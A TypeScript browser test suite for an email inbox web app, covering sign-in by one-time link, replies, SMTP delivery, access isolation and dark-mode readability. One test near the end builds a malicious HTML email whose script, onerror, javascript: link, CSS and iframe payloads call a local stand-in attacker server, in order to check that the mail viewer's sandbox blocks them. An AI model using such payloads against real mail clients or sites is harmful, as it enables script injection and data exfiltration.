/**
 * The web inbox in a real browser (issue 17): Debian's Chromium driven by playwright-core
 * against a real server (HTTP and SMTP listeners, the built app from web/dist), signed in
 * by a one-time link as a person would be. Screenshots of the main screens go to
 * test-artifacts/screenshots/.
 *
 * Runs once, in the SQLite project (the page talks HTTP; both stores answer the API the
 * same, as the API tests prove). Skips, saying why, when Chromium (`apt-get install
 * chromium`) or the build (`npm run build`) is absent; `.ci/run` installs Chromium.
 */
import fs from 'node:fs';
import http from 'node:http';
import net from 'node:net';
import path from 'node:path';
import nodemailer from 'nodemailer';
import { chromium, type Browser, type BrowserContext, type Page } from 'playwright-core';
import { afterAll, afterEach, beforeAll, describe, expect, it } from 'vitest';
import { issueLoginLink } from '../../src/services/sessions.js';
import { findFirstOwner, findMember } from '../../src/store/members.js';
import { liveServer, rawEmail, TEST_STORE } from '../helpers.js';

const ROOT = path.resolve(import.meta.dirname, '../..');
const CHROMIUM = process.env.CHROMIUM_PATH ?? '/usr/bin/chromium';
const WEB_DIST = path.join(ROOT, 'web/dist');
const ARTIFACTS = path.join(ROOT, 'test-artifacts/screenshots');
const skip = !fs.existsSync(CHROMIUM)
  ? `Chromium not found at ${CHROMIUM} (apt-get install chromium); skipping the browser tests`
  : !fs.existsSync(path.join(WEB_DIST, 'index.html'))
    ? 'web/dist/index.html not found: run `npm run build` first (npm test does); skipping the browser tests'
    : TEST_STORE !== 'sqlite' ? 'browser tests run once, in the sqlite project' : null;
if (skip && TEST_STORE === 'sqlite') {
  // CI (.ci/run sets SWITCHBOARD_REQUIRE_BROWSER) installs Chromium and builds the app: a
  // skip there would hide a broken set-up, so it fails instead.
  if (process.env.SWITCHBOARD_REQUIRE_BROWSER === '1') throw new Error(skip);
  console.warn(skip);
}

type Live = Awaited<ReturnType<typeof liveServer>>;
let live: Live;
let browser: Browser;
let base: string;
let key: string;
let orgId: string;
let support: string;
let sales: string;
/** Requests that reached the "attacker" of the malicious-mail test. */
const exfiltrated: string[] = [];
let attacker: http.Server;
let attackerPort: number;
/** Console errors and page errors of each test's pages. */
let problems: string[] = [];
const contexts: BrowserContext[] = [];

async function api(method: string, url: string, body?: unknown, headers: Record<string, string> = {}): Promise<any> {
  const res = await fetch(`${base}${url}`, {
    method,
    headers: { authorization: `Bearer ${key}`, ...(body !== undefined ? { 'content-type': typeof body === 'string' ? 'message/rfc822' : 'application/json' } : {}), ...headers },
    body: body === undefined ? undefined : typeof body === 'string' ? body : JSON.stringify(body),
  });
  const text = await res.text();
  if (!res.ok) throw new Error(`${method} ${url}: ${res.status} ${text}`);
  return text ? JSON.parse(text) : null;
}

const inboundMail = (raw: Buffer) => api('POST', '/v1/inbound/email', raw.toString('utf8'));

/** A one-time sign-in link for a member (the owner by default), as `switchboard login-link` prints it. */
async function loginUrl(memberId?: string): Promise<string> {
  const db = live.server.store.db;
  const member = memberId ? await findMember(db, orgId, memberId) : await findFirstOwner(db, orgId);
  return (await issueLoginLink(live.server.store, member!, base, { now: () => Date.now() }, 15 * 60_000)).url;
}

/** A fresh browser profile (no cookies) whose console errors are collected. */
async function newPage(options: { width?: number; dark?: boolean } = {}): Promise<Page> {
  const context = await browser.newContext({
    viewport: { width: options.width ?? 1280, height: 800 }, colorScheme: options.dark ? 'dark' : 'light',
  });
  contexts.push(context);
  const page = await context.newPage();
  page.on('console', (m) => { if (m.type() === 'error' || m.type() === 'warning') problems.push(`console ${m.type()}: ${m.text()}`); });
  page.on('pageerror', (e) => problems.push(`page error: ${e.message}`));
  page.on('dialog', (d) => { problems.push(`dialog: ${d.message()}`); void d.dismiss(); });
  return page;
}

async function signIn(page: Page, memberId?: string): Promise<void> {
  await page.goto(await loginUrl(memberId));
  await page.getByRole('list', { name: 'Conversations' }).waitFor({ timeout: 10_000 });
}

const conversations = (page: Page) => page.getByRole('list', { name: 'Conversations' }).getByRole('listitem');

async function screenshot(page: Page, name: string): Promise<void> {
  fs.mkdirSync(ARTIFACTS, { recursive: true });
  await page.screenshot({ path: path.join(ARTIFACTS, `${name}.png`) });
}

/** Polls `fn` until it returns something truthy (at most `ms`). */
async function eventually<T>(fn: () => Promise<T | undefined | null | false>, ms = 5_000): Promise<T> {
  const deadline = Date.now() + ms;
  for (;;) {
    const v = await fn();
    if (v) return v;
    if (Date.now() > deadline) throw new Error('condition not met in time');
    await new Promise((r) => setTimeout(r, 100));
  }
}

describe.skipIf(skip !== null)('the web inbox in Chromium', () => {
  beforeAll(async () => {
    attacker = http.createServer((req, res) => { exfiltrated.push(req.url ?? ''); res.end(); });
    await new Promise<void>((r) => attacker.listen(0, '127.0.0.1', () => r()));
    attackerPort = (attacker.address() as net.AddressInfo).port;
    live = await liveServer({ webDir: WEB_DIST });
    base = `http://127.0.0.1:${live.server.port}`;
    key = live.server.firstRun!.apiKey;
    orgId = live.server.firstRun!.orgId;
    support = (await api('POST', '/v1/identities', { handle: 'support' })).id;
    sales = (await api('POST', '/v1/identities', { handle: 'sales' })).id;
    await api('POST', '/v1/mailboxes', { identity_id: support, address: 'support@acme.test' });
    await api('POST', '/v1/mailboxes', { identity_id: sales, address: 'sales@acme.test' });
    // Mail already there when the person first signs in.
    await inboundMail(rawEmail({ from: 'Ann Buyer <ann@buyer.test>', to: 'support@acme.test', subject: 'Order 1042 arrived damaged', messageId: 'ann1@buyer.test', body: 'The box was crushed. Can you send a new one?' }));
    await inboundMail(rawEmail({ from: 'Bob <bob@shop.test>', to: 'support@acme.test', subject: 'Invoice question', messageId: 'bob1@shop.test', body: 'Is VAT included?' }));
    await inboundMail(rawEmail({ from: 'Cara <cara@lead.test>', to: 'sales@acme.test', subject: 'Pricing for 50 seats', messageId: 'cara1@lead.test', body: 'What would 50 seats cost?' }));
    browser = await chromium.launch({
      executablePath: CHROMIUM, headless: true,
      args: ['--no-sandbox', '--disable-background-networking', '--disable-component-update'],
    });
  }, 60_000);

  afterEach(async () => {
    for (const c of contexts.splice(0)) await c.close();
    const seen = problems;
    problems = [];
    expect(seen, 'console errors, page errors or dialogs').toEqual([]);
  });

  afterAll(async () => {
    await browser?.close();
    await live?.close();
    attacker?.close();
  });

  it('signs in by a one-time link and lists the imported mail', async () => {
    const page = await newPage();
    await signIn(page);
    await expect.poll(() => conversations(page).count()).toBe(3);
    await expect.poll(() => conversations(page).allInnerTexts()).toEqual(expect.arrayContaining([
      expect.stringContaining('Order 1042 arrived damaged'), expect.stringContaining('Invoice question'), expect.stringContaining('Pricing for 50 seats'),
    ]));
    // The token is not left in the address bar, and cannot be used twice.
    expect(page.url()).not.toContain('token=');
    await screenshot(page, 'inbox');
  });

  it('opens a conversation, replies from the Reply box, and the API shows the outbound message', async () => {
    const page = await newPage();
    await signIn(page);
    await conversations(page).filter({ hasText: 'Order 1042' }).click();
    await expect.poll(() => page.getByText('The box was crushed').count()).toBeGreaterThan(0);
    await page.getByRole('textbox', { name: 'Reply' }).fill('Sorry about that: a new one ships today.');
    await page.getByRole('button', { name: 'Send', exact: true }).click();
    const conv = (await api('GET', `/v1/conversations?identity_id=${support}&with=ann@buyer.test`)).data[0];
    const sent = await eventually(async () => (await api('GET', `/v1/conversations/${conv.id}/messages`)).data
      .find((m: any) => m.direction === 'outbound' && m.text?.startsWith('Sorry about that')));
    await expect.poll(() => page.getByText('a new one ships today').count()).toBeGreaterThan(0);
    await screenshot(page, 'conversation');
  });

  it('shows a message that arrives over SMTP within 2 s, without a reload', async () => {
    const page = await newPage();
    await signIn(page);
    await expect.poll(() => conversations(page).count()).toBeGreaterThanOrEqual(3);
    const before = await conversations(page).count();
    const smtp = nodemailer.createTransport({ host: '127.0.0.1', port: live.server.smtpPort, secure: false, ignoreTLS: true });
    const t0 = Date.now();
    await smtp.sendMail({ from: 'Dana <dana@new.test>', to: 'support@acme.test', subject: 'Live over SMTP', text: 'Are you there?' });
    await conversations(page).filter({ hasText: 'Live over SMTP' }).waitFor({ timeout: 2_000 });
    expect(Date.now() - t0).toBeLessThan(2_000);
    expect(await conversations(page).count()).toBe(before + 1);
  });

  it('sends a suggestion after an edit, which records a training pair', async () => {
    const conv = (await api('GET', `/v1/conversations?identity_id=${support}&with=bob@shop.test`)).data[0];
    const draft = 'Yes, VAT is included.';
    await api('POST', `/v1/conversations/${conv.id}/suggestions`, { text: draft, model: 'test-model' });
    const page = await newPage();
    await signIn(page);
    await conversations(page).filter({ hasText: 'Invoice question' }).click();
    const card = page.getByRole('article', { name: 'Suggested reply' }).filter({ hasText: draft });
    await card.waitFor();
    await screenshot(page, 'suggestion');
    await card.getByRole('button', { name: 'Edit' }).click();
    const edited = 'Yes, VAT (20%) is included in every invoice.';
    await card.getByRole('textbox', { name: 'Edit the suggested reply' }).fill(edited);
    await card.getByRole('button', { name: 'Send', exact: true }).click();
    const pair = await eventually(async () => (await api('GET', '/v1/training_pairs')).data.find((p: any) => p.conversation_id === conv.id));
    expect(pair).toMatchObject({ draft, sent_text: edited, edited: true, model: 'test-model' });
  });

  it('never shows a member the conversations of an identity they have no access to', async () => {
    const member = await api('POST', '/v1/members', { email: 'seller@acme.test', name: 'Sam Seller', role: 'agent', identity_id: sales });
    const page = await newPage();
    const seen: string[] = [];
    page.on('response', async (r) => { if (r.url().includes('/v1/')) seen.push(await r.text().catch(() => '')); });
    await signIn(page, member.id);
    await expect.poll(() => conversations(page).count()).toBe(1);
    expect(await conversations(page).first().innerText()).toContain('Pricing for 50 seats');
    // Nothing of the support identity reached the page at all, not only the screen.
    const supportIds = (await api('GET', `/v1/conversations?identity_id=${support}`)).data.map((c: any) => c.id);
    for (const id of supportIds) expect(seen.join('\n')).not.toContain(id);
    expect(seen.join('\n')).not.toContain('ann@buyer.test');
  });

  it('runs nothing of a malicious HTML mail (script, onerror, CSS exfiltration, remote images)', async () => {
    const evil = `http://127.0.0.1:${attackerPort}`;
    const html = [
      '<html><head><style>body { background: url(' + evil + '/css-background) } @import url(' + evil + '/css-import);</style></head><body>',
      '<p>Quarterly report attached.</p>',
      `<script>window.parent.pwned = 1; fetch('${evil}/script')</script>`,
      `<img src="x" onerror="window.parent.pwned = 2; fetch('${evil}/onerror')">`,
      `<img src="${evil}/remote-image.png" alt="tracker">`,
      `<a href="javascript:fetch('${evil}/js-link')">open</a>`,
      `<div style="background-image: url(${evil}/inline-style)">x</div>`,
      `<iframe src="${evil}/iframe"></iframe><object data="${evil}/object"></object>`,
      `<form action="${evil}/form"><input name="q" autofocus onfocus="fetch('${evil}/onfocus')"></form>`,
      '</body></html>',
    ].join('\n');
    const raw = [
      'From: Mallory <mallory@evil.test>', 'To: support@acme.test', 'Subject: Quarterly report', 'Message-ID: <evil1@evil.test>',
      'MIME-Version: 1.0', 'Content-Type: text/html; charset=utf-8', '', html, '',
    ].join('\r\n');
    await inboundMail(Buffer.from(raw));
    const page = await newPage();
    await signIn(page);
    await conversations(page).filter({ hasText: 'Quarterly report' }).click();
    const frame = page.frameLocator('iframe').first();
    await frame.getByText('Quarterly report attached.').waitFor();
    // The mail is shown in a frame that may never run a script.
    const sandbox = await page.locator('iframe').first().getAttribute('sandbox');
    expect(sandbox).not.toBeNull();
    expect(sandbox).not.toMatch(/allow-scripts/);
    await page.waitForTimeout(1_500);
    expect(exfiltrated).toEqual([]);
    expect(await page.evaluate(() => (window as unknown as { pwned?: number }).pwned)).toBeUndefined();
    await screenshot(page, 'malicious-mail');
  });

  it('is readable at 360 px wide and in dark mode', async () => {
    const page = await newPage({ width: 360, dark: true });
    await signIn(page);
    await expect.poll(() => conversations(page).count()).toBeGreaterThan(0);
    // Nothing wider than the screen: no horizontal scrolling.
    expect(await page.evaluate(() => document.documentElement.scrollWidth)).toBeLessThanOrEqual(360);
    const [fg, bg] = await page.evaluate(() => {
      const s = getComputedStyle(document.body);
      return [s.color, s.backgroundColor];
    });
    expect(contrast(fg, bg)).toBeGreaterThanOrEqual(4.5);
    expect(luminance(bg)).toBeLessThan(0.2); // dark
    await screenshot(page, 'mobile-dark');
  });
});

/** Relative luminance of a CSS `rgb()`/`rgba()` colour (WCAG 2.2, "relative luminance"). */
function luminance(css: string): number {
  const [r, g, b] = (css.match(/[\d.]+/g) ?? ['0', '0', '0']).slice(0, 3).map((v) => {
    const c = Number(v) / 255;
    return c <= 0.04045 ? c / 12.92 : ((c + 0.055) / 1.055) ** 2.4;
  });
  return 0.2126 * r! + 0.7152 * g! + 0.0722 * b!;
}

/** WCAG contrast ratio of two colours. */
function contrast(a: string, b: string): number {
  const [hi, lo] = [luminance(a), luminance(b)].sort((x, y) => y - x);
  return (hi! + 0.05) / (lo! + 0.05);
}
